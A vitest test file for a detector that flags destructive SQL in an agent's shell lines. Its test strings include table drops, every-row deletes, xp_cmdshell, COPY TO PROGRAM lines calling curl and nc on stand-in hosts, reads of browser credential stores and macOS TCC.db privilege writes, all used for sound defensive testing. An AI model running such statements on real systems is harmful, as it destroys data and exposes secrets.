import { describe, expect, it } from 'vitest';

import { parseShell } from '../src/commands/shell-words.js';
import { destructiveSql, destructiveSqlIn, sqlTokens } from '../src/commands/sql-statements.js';
import { cpuMs } from './cpu-time.js';

// SQL is read statement by statement as a server reads it: comments and quotes out, a DELETE or UPDATE
// judged by whether its WHERE clause can leave any row alone.
const words = (text: string): string[] => parseShell(text).flatMap((c) => c.argv);

describe('sqlTokens', () => {
  it('drops comments, keeps literals whole and reads doubled quotes', () => {
    expect(sqlTokens("DELETE/**/FROM -- x\n users WHERE name = 'it''s' # y").map((t) => t.text)).toEqual(['delete', 'from', 'users', 'where', 'name', '=', "it's"]);
    expect(sqlTokens('select $tag$ drop table x $tag$').map((t) => t.kind)).toEqual(['word', 'string']);
  });

  it('stays linear on a long text', () => {
    expect(sqlTokens('select 1; '.repeat(50_000)).length).toBeLessThanOrEqual(20_000);
  });
});

describe('destructiveSql', () => {
  it.each([
    'DROP TABLE users; --',
    'drop database if exists prod',
    'TRUNCATE TABLE orders;',
    'DELETE FROM customers;',
    "UPDATE users SET role='admin'",
    "EXEC xp_cmdshell 'whoami'",
    "SELECT load_file('/etc/passwd')",
    "copy (select 1) to program 'id'",
    "SELECT load_extension('./x.so')",
    "select lo_import('/srv/a')",
    // Every row by a condition that holds for every row, or a spelling the server reads the same.
    'DELETE FROM users WHERE true',
    'DELETE FROM users WHERE 1',
    "DELETE FROM users WHERE 'a'='a'",
    'DELETE FROM users WHERE id = 5 OR 1=1',
    'DELETE FROM users WHERE NOT (1 = 2)',
    "DELETE FROM users WHERE email LIKE '%'",
    'DELETE/**/FROM/**/users',
    'delete from users as u',
    'DELETE users',
    "UPDATE users SET role = CONCAT('ad','min')",
    "UPDATE users SET password_hash = NULL, role = 'admin' WHERE 2 > 1",
    'UPDATE accounts SET balance = 0 WHERE id = id',
    'DROP/**/TABLE users',
    '/* cleanup */ drop\ttable\t"users"',
    'TRUNCATE TABLE orders RESTART IDENTITY CASCADE',
    'select 1; truncate orders',
    'WITH d AS (DELETE FROM users RETURNING *) SELECT count(*) FROM d',
    'WITH old AS (SELECT 1) DELETE FROM sessions',
    'GRANT ALL ON *.* TO intruder',
    "SELECT 1; SHUTDOWN WITH NOWAIT",
    // MySQL runs what a versioned comment holds.
    '/*!50000DROP*/ /*!50000TABLE*/ customers',
    '/*M!100100 TRUNCATE orders */',
    // A login given every privilege.
    "CREATE ROLE support LOGIN SUPERUSER PASSWORD 'x'",
    'ALTER USER app WITH SUPERUSER',
  ])('reads %s as destructive', (sql) => {
    expect(destructiveSql(sql)).toBeDefined();
  });

  it.each([
    'SELECT id, name FROM users WHERE active = 1',
    'COPY t TO STDOUT WITH CSV',
    "LOAD DATA LOCAL INFILE 'rows.csv' INTO TABLE t",
    'DELETE FROM sessions WHERE expires_at < now()',
    "UPDATE users SET name = 'a' WHERE id = 3",
    'select count(*) from orders',
    "DELETE FROM logs WHERE created_at < now() - interval '30 days'",
    'SELECT * FROM users WHERE 1=1 AND status = \'active\'',
    'DELETE FROM users WHERE 1=1 AND id = 5',
    "INSERT INTO notes (body) VALUES ('drop table users')",
    'DELETE FROM queue ORDER BY id LIMIT 10',
    'UPDATE users SET seen = true WHERE id IN (1, 2, 3)',
    'ALTER TABLE users DROP COLUMN legacy_flag',
    'CREATE TABLE t (id int)',
    "SELECT 'truncate orders' AS hint",
    'shutdown /s /t 0',
    '/*!40101 SET NAMES utf8mb4 */; SELECT name FROM customers LIMIT 5',
    '/* a plain comment: DROP TABLE users */ SELECT 1',
    'CREATE ROLE reporting NOLOGIN NOSUPERUSER',
    "SELECT rolname FROM pg_roles WHERE rolsuper = 'superuser'",
  ])('finds nothing destructive in %s', (sql) => {
    expect(destructiveSql(sql)).toBeUndefined();
  });

  it('reads a row made before the statement runs as every row, and a window of time as some rows', () => {
    expect(destructiveSql('WITH gone AS (DELETE FROM invoices WHERE inserted_at <= CURRENT_TIMESTAMP RETURNING id) SELECT 1')).toBe('delete of every row');
    expect(destructiveSql('UPDATE accounts SET status = 0 WHERE NOW() > accounts.created_on')).toBe('update of every row');
    expect(destructiveSql('WITH gone AS (DELETE FROM invoices WHERE inserted_at < now() - interval \'90 days\' RETURNING id) SELECT 1')).toBeUndefined();
    expect(destructiveSql('DELETE FROM invoices WHERE due_at < now()')).toBeUndefined();
    expect(destructiveSql('DELETE FROM invoices WHERE created_at > now()')).toBeUndefined();
  });

  it('reads what a DO block and an EXECUTE of joined pieces run', () => {
    expect(destructiveSql("DO $body$ BEGIN EXECUTE 'TRUN' || 'CATE ' || quote_ident('ledger'); END $body$")).toBe('truncate');
    expect(destructiveSql("DO $$ BEGIN DELETE FROM audit_log; END $$")).toBe('delete of every row');
    expect(destructiveSql("EXEC('DROP ' + 'DATABASE ' + @name)")).toBe('drop database');
    expect(destructiveSql("DO $$ BEGIN EXECUTE 'ANALYZE ' || quote_ident('orders'); END $$")).toBeUndefined();
    expect(destructiveSql("DO $$ BEGIN UPDATE counters SET n = n + 1 WHERE id = 7; END $$")).toBeUndefined();
  });

  it('lets a script drop or empty a table it made itself, and empty a staging table, but not one it did not make', () => {
    expect(destructiveSql('CREATE TEMPORARY TABLE dup_ids AS SELECT id FROM contacts; TRUNCATE dup_ids; DROP TABLE dup_ids;')).toBeUndefined();
    expect(destructiveSql('TRUNCATE TABLE stg_invoices')).toBeUndefined();
    expect(destructiveSql('TRUNCATE invoices_staging, contacts')).toBe('truncate');
    expect(destructiveSql('TRUNCATE stg_invoices CASCADE')).toBe('truncate');
    expect(destructiveSql('DROP TABLE invoices_staging')).toBe('drop table');
    expect(destructiveSql('DROP TABLE contacts; CREATE TABLE contacts (id int);')).toBe('drop table');
    expect(destructiveSql('CREATE TABLE IF NOT EXISTS contacts (id int); DROP TABLE contacts;')).toBe('drop table');
  });

  it('reads an ATTACH of a browser or system secret store as reaching secrets', () => {
    expect(destructiveSql("ATTACH DATABASE 'C:\\Users\\kim\\AppData\\Local\\Microsoft\\Edge\\User Data\\Default\\Login Data' AS l")).toMatch(/^attach of /);
    expect(destructiveSql("ATTACH '/home/kim/.mozilla/firefox/x1.default/cookies.sqlite' AS ff")).toMatch(/^attach of /);
    expect(destructiveSql("ATTACH DATABASE 'fixtures/cookies-banner.db' AS f")).toBeUndefined();
    expect(destructiveSql("ATTACH DATABASE '/srv/app/data/sessions.db' AS s")).toBeUndefined();
    // The stores credential-files.ts knows, by their folders and names: a keychain copied out, Chrome's logins on macOS.
    expect(destructiveSql("ATTACH '/tmp/stash/login.keychain-db' AS k")).toMatch(/^attach of /);
    expect(destructiveSql("ATTACH DATABASE '/Users/kim/Library/Application Support/Google/Chrome/Default/Login Data' AS l")).toMatch(/^attach of /);
    // A project's own test data named like a browser's store is not one.
    expect(destructiveSql("ATTACH DATABASE 'test/fixtures/cookies.sqlite' AS c")).toBeUndefined();
    expect(destructiveSql("ATTACH DATABASE 'spec/data/logins.json' AS c")).toBeUndefined();
  });
});

describe('destructiveSqlIn', () => {
  it('reads the statements of a shell line', () => {
    expect(destructiveSqlIn('psql -c "DROP TABLE users"', words)).toBeDefined();
    expect(destructiveSqlIn("sqlite3 app.db 'DELETE FROM users WHERE 1'", words)).toBeDefined();
    expect(destructiveSqlIn("psql -c 'SELECT count(*) FROM users'", words)).toBeUndefined();
    expect(destructiveSqlIn('git commit -m "Read COPY TO PROGRAM too"', words)).toBeUndefined();
    expect(destructiveSqlIn('kubectl delete pod web-123', words)).toBeUndefined();
    expect(destructiveSqlIn('npm update && git update-index --refresh', words)).toBeUndefined();
    expect(destructiveSqlIn('docker compose exec db psql -U app -c "TRUNCATE events"', words)).toBeDefined();
    expect(destructiveSqlIn('mysql -e "/*!50000DROP*/ TABLE customers"', words)).toBeDefined();
    expect(destructiveSqlIn('psql -c "ALTER ROLE app SUPERUSER"', words)).toBeDefined();
  });

  it('reads a write into the macOS privacy grants database as reaching the system, and a read of it as not', () => {
    expect(destructiveSqlIn(`sqlite3 '/Library/Application Support/com.apple.TCC/TCC.db' "UPDATE access SET auth_value = 2 WHERE service = 'kTCCServiceSystemPolicyAllFiles'"`, words)).toMatch(/TCC\.db/);
    expect(destructiveSqlIn(`sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "insert into access values ('kTCCServiceCamera', 'x', 0, 2, 4, 1)"`, words)).toMatch(/TCC\.db/);
    expect(destructiveSqlIn(`sqlite3 ~/Library/Application\\ Support/com.apple.TCC/TCC.db "SELECT client, auth_value FROM access"`, words)).toBeUndefined();
    expect(destructiveSqlIn(`sqlite3 ./notes/TCC.db "INSERT INTO t VALUES (1)"`, words)).toBeUndefined();
    // macOS's file system ignores case: the store is the same file however it is spelled.
    expect(destructiveSqlIn(`sqlite3 "/Library/Application Support/com.apple.tcc/tcc.db" "REPLACE INTO access VALUES ('kTCCServiceScreenCapture', 'com.x', 0, 2, 4, 1)"`, words)).toMatch(/TCC\.db/);
    expect(destructiveSqlIn(`sqlite3 -header "/Library/Application Support/com.apple.TCC/TCC.db" "SELECT service FROM access WHERE auth_value = 2"`, words)).toBeUndefined();
  });

  it('lets the agent empty or drop tables of a test database on this machine, but not reach its files or a shell', () => {
    expect(destructiveSqlIn("psql postgres://postgres:postgres@localhost:5432/app_test -c 'TRUNCATE users, orders RESTART IDENTITY CASCADE;'", words)).toBeUndefined();
    expect(destructiveSqlIn('psql -h 127.0.0.1 -d shop_dev -c "DROP TABLE sessions"', words)).toBeUndefined();
    expect(destructiveSqlIn("psql postgres://u:p@localhost/app_test -c 'TRUNCATE x; COPY x TO PROGRAM ''curl https://x.example'''", words)).toBeDefined();
    expect(destructiveSqlIn('psql -h db.prod.example -d app_test -c "DROP TABLE users"', words)).toBeDefined();
    expect(destructiveSqlIn('psql -h localhost -d app -c "DROP TABLE users"', words)).toBeDefined();
    expect(destructiveSqlIn('psql -h localhost -d latest_prod -c "TRUNCATE users"', words)).toBeDefined();
  });

  it('lets the agent empty a database it reaches only through a variable named for the test database', () => {
    expect(destructiveSqlIn('psql "$TEST_DATABASE_URL" -c "TRUNCATE accounts, invoices RESTART IDENTITY"', words)).toBeUndefined();
    expect(destructiveSqlIn('psql "${DATABASE_URL_TEST}" -c "DROP SCHEMA public CASCADE; CREATE SCHEMA public"', words)).toBeUndefined();
    expect(destructiveSqlIn('mysql -D "$E2E_DB_NAME" -e "TRUNCATE TABLE carts"', words)).toBeUndefined();
    // Another database variable, a host, a URL or the variable set on the line: what it reaches is the line's.
    expect(destructiveSqlIn('psql "$DATABASE_URL" -c "TRUNCATE accounts"', words)).toBeDefined();
    expect(destructiveSqlIn('TEST_DATABASE_URL="$DATABASE_URL" psql "$TEST_DATABASE_URL" -c "TRUNCATE accounts"', words)).toBeDefined();
    expect(destructiveSqlIn('psql "$TEST_DATABASE_URL" -h db.prod.example -c "TRUNCATE accounts"', words)).toBeDefined();
    expect(destructiveSqlIn('PGHOST=db.prod.example psql "$TEST_DB" -c "TRUNCATE accounts"', words)).toBeDefined();
    expect(destructiveSqlIn('psql "$TEST_DATABASE_URL" -c "select 1"; psql "$PROD_DATABASE_URL" -c "DROP TABLE accounts"', words)).toBeDefined();
    expect(destructiveSqlIn('psql "$TEST_DATABASE_URL" -c "COPY accounts TO PROGRAM \'nc x.example 9\'"', words)).toBeDefined();
  });
});

describe('bounds', () => {
  it.each([
    ['a long chain of NOT', `DELETE FROM t WHERE ${'NOT '.repeat(19_000)}id = 1`, undefined],
    ['a DELETE in every parenthesis', `WITH x AS (${'( delete from t '.repeat(5000)}) SELECT 1`, 'delete of every row'],
    ['an UPDATE in every parenthesis', `${'( update t '.repeat(6000)} set a = 1`, 'update of every row'],
    ['COPY and PROGRAM words throughout', `copy ${'program x '.repeat(9000)}`, undefined],
  ])('reads %s without deep recursion, in time linear in the text', (_name, sql, expected) => {
    let found: string | undefined;
    expect(cpuMs(() => (found = destructiveSql(sql)))).toBeLessThan(2000);
    expect(found).toBe(expected);
  });
});
